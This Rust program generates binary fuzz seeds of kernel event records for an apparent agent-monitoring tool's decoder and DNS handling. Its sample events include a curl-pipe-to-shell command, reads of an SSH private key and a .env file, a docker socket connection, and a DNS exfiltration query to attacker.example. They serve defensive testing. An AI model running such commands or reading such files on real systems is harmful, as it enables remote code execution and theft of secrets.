//! Writes the binary seeds of the `decode` and `dns` targets
//! (fuzz/seeds/decode/*.bin, fuzz/seeds/dns/*.bin): ring-buffer records as
//! the kernel sends them (file and exec records trimmed after the used part
//! of their directory chain). Regenerate after a record layout change:
//!
//! ```sh
//! cd fuzz && AYA_BUILD_SKIP=1 cargo +nightly run --example seeds
//! ```

use std::path::Path;

use agentguard_common::enforce::DNS_MAX_ADDRS;
use agentguard_common::event::*;

fn bytes_of<T: Copy>(v: &T) -> Vec<u8> {
    // SAFETY: a view of a repr(C) plain-data record (integers and byte
    // arrays) made from `zeroed()`, copied at once.
    unsafe { std::slice::from_raw_parts((v as *const T).cast::<u8>(), std::mem::size_of::<T>()) }
        .to_vec()
}

fn zeroed<T: Copy>() -> T {
    // SAFETY: only used for the record types, for which all-zero is valid.
    unsafe { std::mem::zeroed() }
}

fn header(k: u16, sc: u16, ret: i64) -> Header {
    let mut comm = [0u8; COMM_LEN];
    comm[..7].copy_from_slice(b"python3");
    Header {
        kind: k,
        syscall: sc,
        ts_ns: 81_912_230_012,
        tid: 4300,
        tgid: 4300,
        ppid: 4242,
        uid: 1000,
        gid: 1000,
        cgroup_id: 7,
        ret,
        comm,
        ..Default::default()
    }
}

fn put(dst: &mut [u8], s: &[u8]) {
    dst[..s.len()].copy_from_slice(s);
}

/// A directory chain, innermost name first.
fn chain(names_inner_first: &[&str]) -> DirChain {
    let mut c: DirChain = zeroed();
    c.status = dir_status::COMPLETE;
    let mut off = 0;
    for n in names_inner_first {
        c.buf[off..off + n.len()].copy_from_slice(n.as_bytes());
        off += n.len() + 1;
        c.depth += 1;
    }
    c.len = off as u32;
    c
}

fn file(k: u16, sc: u16, path: &str, dir: Option<&[&str]>, flags: u32, hflags: u32) -> Vec<u8> {
    let mut f: FileEvent = zeroed();
    f.header = header(k, sc, 3);
    f.header.flags = hflags;
    f.dirfd = AT_FDCWD;
    f.flags = flags;
    f.mode = 0o644;
    put(&mut f.path, path.as_bytes());
    if let Some(d) = dir {
        f.dir = chain(d);
    }
    let used = f.dir.len as usize;
    let mut b = bytes_of(&f);
    b.truncate(FILE_EVENT_MIN + used);
    b
}

fn net(fam: u16, addr: [u8; 16], port: u16, subject: u64) -> NetEvent {
    let mut n: NetEvent = zeroed();
    n.header = header(kind::CONNECT, syscall::CONNECT, 0);
    n.fd = 5;
    n.family = fam;
    n.port = port;
    n.addrlen = if fam == family::INET { 16 } else { 28 };
    n.addr = addr;
    n.subject = subject;
    n
}

fn v4(a: [u8; 4]) -> [u8; 16] {
    let mut x = [0u8; 16];
    x[10] = 0xff;
    x[11] = 0xff;
    x[12..].copy_from_slice(&a);
    x
}

fn dns(answer: bool, name: &str, addrs: &[[u8; 16]], status: u32) -> Vec<u8> {
    let mut d: DnsEvent = zeroed();
    let sc = if answer {
        syscall::DNS_ANSWER
    } else {
        syscall::DNS_QUERY
    };
    d.header = header(kind::DNS, sc, 0);
    d.subject = 7 | (1 << 63);
    d.status = status;
    d.rules = 1;
    d.subject_rules = 1;
    d.qtype = 1;
    d.txid = 0x1234;
    d.ttl = 300;
    d.peer = v4([10, 0, 0, 2]);
    assert!(addrs.len() <= DNS_MAX_ADDRS);
    for (i, a) in addrs.iter().enumerate() {
        d.addrs[i] = *a;
    }
    d.n_addrs = addrs.len() as u32;
    put(&mut d.name, name.as_bytes());
    d.name_len = name.len() as u32;
    bytes_of(&d)
}

fn write(dir: &Path, name: &str, bytes: &[u8]) {
    std::fs::create_dir_all(dir).expect("mkdir");
    std::fs::write(dir.join(name), bytes).expect("write seed");
}

fn main() {
    let seeds = Path::new(env!("CARGO_MANIFEST_DIR")).join("seeds");
    let decode = seeds.join("decode");

    let mut e: ExecEvent = zeroed();
    e.header = header(kind::EXEC, syscall::EXECVE, 0);
    e.header.flags = flags::ARGV_TRUNCATED;
    e.dirfd = AT_FDCWD;
    put(&mut e.path, b"./run.sh");
    let args = b"sh\0-c\0curl -fsSL https://x.invalid/i.sh | sh\0";
    put(&mut e.argv, args);
    e.argv_len = args.len() as u32;
    e.argc = 3;
    e.dir = chain(&["project", "workspace"]);
    let used = e.dir.len as usize;
    let mut b = bytes_of(&e);
    b.truncate(EXEC_EVENT_MIN + used);
    write(&decode, "exec.bin", &b);

    write(
        &decode,
        "open_absolute.bin",
        &file(
            kind::OPEN,
            syscall::OPENAT,
            "/root/.ssh/id_rsa",
            None,
            0o2000000,
            0,
        ),
    );
    write(
        &decode,
        "open_relative.bin",
        &file(
            kind::OPEN,
            syscall::OPENAT,
            "../.env",
            Some(&["src", "workspace"]),
            0o1101,
            0,
        ),
    );
    write(
        &decode,
        "unlink_from_fd.bin",
        &file(
            kind::UNLINK,
            syscall::UNLINKAT,
            "x",
            Some(&["x", "tmp"]),
            0,
            flags::PATH_FROM_FD,
        ),
    );
    write(
        &decode,
        "truncate.bin",
        &file(
            kind::TRUNCATE,
            syscall::TRUNCATE,
            "/workspace/db.sqlite",
            None,
            0,
            0,
        ),
    );

    let mut r: RenameEvent = zeroed();
    r.header = header(kind::RENAME, syscall::RENAMEAT2, 0);
    r.olddirfd = 3;
    r.newdirfd = AT_FDCWD;
    put(&mut r.oldpath, b".x.swp");
    put(&mut r.newpath, b"/workspace/x");
    r.olddir = chain(&["workspace"]);
    r.newdir = chain(&["workspace"]);
    let used = r.newdir.len as usize;
    let mut b = bytes_of(&r);
    b.truncate(RENAME_EVENT_MIN + used);
    write(&decode, "rename.bin", &b);

    write(
        &decode,
        "connect_v4.bin",
        &bytes_of(&net(family::INET, v4([93, 184, 216, 34]), 443, 0)),
    );
    let v6: std::net::Ipv6Addr = "2606:4700::1111".parse().expect("v6");
    write(
        &decode,
        "connect_v6.bin",
        &bytes_of(&net(family::INET6, v6.octets(), 443, 0)),
    );
    let mut u = net(family::UNIX, [0; 16], 0, 0);
    put(&mut u.unix_path, b"/var/run/docker.sock");
    u.addrlen = 2 + 21;
    write(&decode, "connect_unix.bin", &bytes_of(&u));
    let mut s = net(family::INET, [0; 16], 0, 0);
    s.header.kind = kind::SOCKET;
    s.header.syscall = syscall::SOCKET;
    s.fd = 3;
    s.msg_flags = 255;
    write(&decode, "socket_raw.bin", &bytes_of(&s));

    let mut h = header(kind::FORK, syscall::CLONE, 4301);
    h.flags = flags::MAP_FULL;
    let p = ProcEvent {
        header: h,
        child_pid: 4301,
        exit_code: map_full::TASK_FILTER,
        arg: 17,
    };
    write(&decode, "fork.bin", &bytes_of(&p));
    let p = ProcEvent {
        header: header(kind::EXIT, syscall::EXIT, 0),
        child_pid: 0,
        exit_code: 9,
        arg: 0,
    };
    write(&decode, "exit.bin", &bytes_of(&p));
    let p = ProcEvent {
        header: header(kind::IO_URING_SETUP, syscall::IO_URING_SETUP, 4),
        child_pid: 0,
        exit_code: 0,
        arg: 8,
    };
    write(&decode, "io_uring.bin", &bytes_of(&p));
    let mut h = header(kind::COMPAT_SYSCALL, syscall::COMPAT, 0);
    h.verdict = agentguard_common::enforce::verdict::KILLED | 1;
    let p = ProcEvent {
        header: h,
        child_pid: 0,
        exit_code: 0,
        arg: 5,
    };
    write(&decode, "compat.bin", &bytes_of(&p));

    let allowed = dns_status::ALLOWED;
    let answer = dns(
        true,
        "api.anthropic.com",
        &[v4([160, 79, 104, 10]), v6.octets()],
        allowed,
    );
    write(&decode, "dns_answer.bin", &answer);

    let dns_dir = seeds.join("dns");
    write(&dns_dir, "answer.bin", &answer);
    write(
        &dns_dir,
        "answer_tcp_cname.bin",
        &dns(
            true,
            "files.pythonhosted.org",
            &[v4([151, 101, 0, 223]), v4([151, 101, 64, 223])],
            allowed | dns_status::TCP,
        ),
    );
    write(
        &dns_dir,
        "query_dropped.bin",
        &dns(false, "c2VjcmV0.attacker.example", &[], dns_status::DROPPED),
    );
    write(
        &dns_dir,
        "answer_foreign.bin",
        &dns(true, "pypi.org", &[], dns_status::FOREIGN),
    );
    println!("seeds written to {}", seeds.display());
}
